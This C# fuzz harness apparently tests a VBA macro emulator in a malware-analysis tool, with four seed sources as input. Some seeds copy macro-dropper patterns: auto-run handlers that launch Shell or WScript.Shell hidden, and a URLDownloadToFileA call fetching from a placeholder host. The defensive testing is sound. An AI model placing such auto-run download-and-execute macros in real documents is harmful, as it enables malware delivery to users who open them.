using System.Text;
using Lurewatch.Scripts.Vba;
using Lurewatch.Scripts.Vba.Emulation;

namespace Lurewatch.Fuzz;

/// <summary>VBA source, parsed and emulated: no exception, no hang, as a module and as a script.</summary>
internal static class VbaEmulationTarget
{
    public static void Run(ReadOnlySpan<byte> data)
    {
        var source = Encoding.Latin1.GetString(data);
        VbaEmulator.Run([new VbaModule("Module1", VbaModuleKind.Standard, "", source)], new NoDocument("excel", "x.xls"), new AnalysisBudget(new AnalysisLimits(), TimeProvider.System));
        VbaEmulator.RunScript(source, "x.vbs", new AnalysisBudget(new AnalysisLimits(), TimeProvider.System));
    }

    /// <summary>Sources that use most of the language.</summary>
    public static IReadOnlyList<byte[]> Seeds() =>
    [
        .. new[]
        {
            "Dim g(3) As String\nSub AutoOpen()\nOn Error GoTo bad\nFor i = LBound(g) To UBound(g) Step 1\ng(i) = Chr(65 + i) & StrReverse(\"cba\")\nNext i\nShell Join(g, \"\")\nbad:\nResume Next\nEnd Sub\n",
            "Function F(ByRef a, Optional b = 2) As String\nSelect Case a\nCase 1 To 3: F = Mid(\"abcdef\", a, b)\nCase Is > 5, 4: F = Replace(\"xyz\", \"y\", \"\")\nCase Else\nF = F(a - 1)\nEnd Select\nEnd Function\nSub Document_Open()\nWith CreateObject(\"WScript.Shell\")\n.Run F(2) & F(9), 0\nEnd With\nEnd Sub\n",
            "Private Declare PtrSafe Function D Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long\nType T\na As Long\nb(2) As Byte\nEnd Type\nSub Workbook_Open()\nDim t As T\nt.b(1) = 7\nDo While t.a < 3\nt.a = t.a + 1\nLoop\nReDim q(1 To 4, 2)\nq(1, 1) = t.b(1) Xor &HFF\nD 0, \"http://a.example/\" & q(1, 1), \"c\", 0, 0\nRange(\"A1\").Value = 5\nOpen \"x\" For Output As #1\nPrint #1, Cells(1, 1); \"x\"\nClose\nEnd Sub\n",
            "Class C\nPrivate v\nProperty Let P(x)\nv = x\nEnd Property\nEnd Class\nSet o = New C\no.P = Split(\"a-b\", \"-\")(1)\nExecute \"x = 1 : y = x + 2\"\nIf x = 1 Then WScript.Echo y Else WScript.Quit\nSet r = New RegExp\nr.Pattern = \"(a+)b\"\nr.Global = True\nWScript.Echo r.Replace(\"aab\", \"$1\")\nFor Each m In r.Execute(\"aab ab\")\nz = z & m.SubMatches(0)\nNext\n",
        }.Select(Encoding.Latin1.GetBytes),
    ];
}
